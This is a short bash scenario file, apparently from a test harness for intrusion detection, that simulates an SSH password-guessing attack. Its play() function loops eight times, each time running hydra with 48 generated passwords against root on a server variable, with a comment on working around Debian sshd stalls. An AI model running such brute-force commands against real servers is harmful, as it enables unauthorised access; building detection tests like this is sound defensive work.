# shellcheck shell=bash
# about: 48 passwords for ssh, again and again (hydra)
# type: attack
# kind: password_guessing
# target: server
# source: attacker
# tools: hydra sshd
# within_ms: 10000
play() {
	local _

	# Debian's waits for ever once each of its threads has been sent away (six tries): so it is called again.
	for _ in {1..8}; do
		passwords 48 >"$WORK/list"
		on attacker timeout 2 hydra -I -o /dev/null -l root -P "$WORK/list" -t 8 "ssh://$SERVER_IP"
	done
}
